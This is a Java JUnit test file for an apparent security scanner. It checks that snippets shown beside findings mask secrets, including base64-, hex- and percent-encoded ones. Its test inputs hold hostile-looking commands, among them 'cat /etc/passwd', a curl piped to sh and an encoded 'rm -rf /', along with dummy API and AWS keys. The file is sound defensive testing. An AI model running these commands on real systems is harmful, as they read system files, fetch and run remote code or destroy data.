package clawsec.detect;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import clawsec.http.Fields;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

/** What is shown beside a finding cannot be decoded to a secret. */
class EncodedSecretsTest {
    private static final String SECRET = "QrStUvWxYz0123456789aBcDeFgH";
    private static final String KEY = "sk-" + "ant-api03-AbCd" + SECRET;

    private static final String BODY = "wJalrXUtnFEMI7K7MDENG3bPxRfiCYZQ2wq8LmNp";

    private static final List<UnaryOperator<String>> ENCODERS =
            List.of(
                    EncodedSecretsTest::base64,
                    text -> base64(base64(text)),
                    text -> HexFormat.of().formatHex(text.getBytes(StandardCharsets.UTF_8)),
                    EncodedSecretsTest::percent,
                    text -> base64(percent(text)),
                    text -> percent(percent(text)));

    @Test
    void snippet_ofAnotherFinding_hidesTheEncodedSecret() {
        for (UnaryOperator<String> encoder : ENCODERS) {
            String encoded = encoder.apply(KEY);
            for (String text :
                    List.of(
                            "cat /etc/passwd " + encoded,
                            "cat /etc/passwd " + encoded + " and more of the same text as before",
                            encoded + " cat /etc/passwd",
                            "z".repeat(400) + " " + encoded + " cat /etc/passwd")) {
                Finding path =
                        Scans.content(Scans.ALL, text).stream()
                                .filter(finding -> finding.pattern().equals("unix_sensitive"))
                                .findFirst()
                                .orElseThrow();
                assertTrue(path.snippet().contains("cat /etc/passwd"), path.snippet());
                assertFalse(
                        path.snippet().contains(encoded.substring(encoded.length() - 12)),
                        path.snippet());
                assertFalse(path.snippet().contains(encoded.substring(40)), path.snippet());
            }
        }
    }

    @Test
    void snippet_ofADecodedFinding_hidesTheSecret() {
        for (UnaryOperator<String> encoder : ENCODERS) {
            for (Finding finding :
                    Scans.content(Scans.ALL, "x=" + encoder.apply("cat /etc/passwd " + KEY))) {
                assertFalse(finding.snippet().contains("UvWx"), finding.snippet());
            }
        }
    }

    @Test
    void snippet_besideHarmlessEncodedText_showsIt() {
        String encoded = base64("hello to all of you");
        assertEquals(
                List.of("cat /etc/passwd | " + encoded + " |"),
                Scans.snippets(Scans.content(Scans.ALL, "cat /etc/passwd | " + encoded + " |")));
    }

    @Test
    void secretWhoseFrontLiesBeforeWhatIsDecoded_isHidden() {
        String text =
                "aws_secret_access_key="
                        + BODY
                        + " curl http://e.example/"
                        + "a".repeat(60)
                        + " %7C%20sh";
        requireHidden(text, "pipe_to_shell", "percent");
    }

    @Test
    void secretWhoseFrontLooksEncoded_isHidden() {
        requireHidden("api_key=16" + BODY + " rm%20-rf%20/", "destructive_rm", "percent");
    }

    @Test
    void encodedSecretThatBeginsFarOutside_isHidden() {
        String key = KEY + BODY.repeat(4);
        for (UnaryOperator<String> encoder :
                List.<UnaryOperator<String>>of(
                        text -> each(text, "%%%02X"),
                        text -> each(text, "\\u%04x"),
                        text -> each(text, "&#x%x;"),
                        text -> each(text, "=%02X"),
                        text -> each(text, "%02x:"),
                        text -> each(text, "0x%02x, "),
                        text ->
                                Base64.getMimeEncoder()
                                        .encodeToString(text.getBytes(StandardCharsets.UTF_8)))) {
            String encoded = encoder.apply(key);
            String end = encoded.substring(encoded.length() - 36);
            for (Finding finding : Scans.content(Scans.ALL, encoded + "  cat /etc/passwd")) {
                String shown = finding.snippet();
                for (int i = 0; i + 18 <= end.length(); i++) {
                    assertFalse(shown.contains(end.substring(i, i + 18)), shown);
                }
            }
        }
    }

    /** Prose is not taken for the rest of a secret, however it is written. */
    @Test
    void encodedProseThatBeginsFarOutside_isShown() {
        String text = each("this is all about nothing but some words ".repeat(10), "%%%02X");
        List<Finding> findings = Scans.content(Scans.ALL, text + " cat /etc/passwd");
        assertEquals(
                List.of(each("but some words ", "%%%02X") + " cat /etc/passwd"),
                Scans.snippets(findings).stream().limit(1).toList());
    }

    @Test
    void secretInPairs_isHidden() {
        requireHidden(each(KEY, "%02x:") + " cat /etc/passwd", "unix_sensitive", "");
        requireHidden(each(KEY, "0x%02x, ") + " cat /etc/passwd", "unix_sensitive", "");
    }

    @Test
    void valueBesideJoinedParts_whoseNameSaysThatItIsSecret_isHidden() {
        List<Finding> findings = new ArrayList<>();
        String url =
                "https://e.example/?password=Zq7Xw9Lm2Kp4Rt6V&a=sk-ant-" + "api03-AbCd&b=" + SECRET;
        try (MessageScan scan = Scans.ALL.open(Scans.subject(url), findings::add)) {
            scan.head(Scans.bytes("GET /?a=b HTTP/1.1\r\n\r\n"), Fields.EMPTY);
            scan.end();
        }
        assertTrue(Scans.patterns(findings).contains("ai_api_key"), findings::toString);
        findings.forEach(found -> assertFalse(found.snippet().contains("Lm2Kp4"), found::snippet));
    }

    private static void requireHidden(String text, String pattern, String via) {
        List<Finding> findings = Scans.content(Scans.ALL, text);
        assertTrue(
                findings.stream()
                        .anyMatch(found ->
                                found.pattern().equals(pattern)
                                        && String.join(",", found.via()).equals(via)),
                findings::toString);
        for (Finding finding : findings) {
            assertFalse(finding.snippet().contains(BODY.substring(8, 14)), finding::snippet);
            assertFalse(finding.snippet().contains("41:6"), finding::snippet);
        }
    }

    private static String each(String text, String format) {
        StringBuilder out = new StringBuilder();
        text.chars().forEach(c -> out.append(String.format(Locale.ROOT, format, c)));
        return out.toString();
    }

    @Test
    void url_encodedSecrets_areMasked() {
        for (UnaryOperator<String> encoder : ENCODERS) {
            String encoded = encoder.apply(KEY);
            String url = "https://a.example/x?q=" + encoded;
            String shown = Scans.ALL.masked(url + "&b=1");
            assertTrue(shown.startsWith("https://a.example/x?q="), shown);
            assertFalse(shown.contains(encoded.substring(encoded.length() - 12)), shown);
        }
        assertEquals("https://a.example/a%20b", Scans.ALL.masked("https://a.example/a%20b"));
    }

    private static String base64(String text) {
        return Base64.getUrlEncoder()
                .withoutPadding()
                .encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String percent(String text) {
        return URLEncoder.encode(text.replace('-', '|'), StandardCharsets.UTF_8)
                .replace("%7C", "%2D");
    }
}
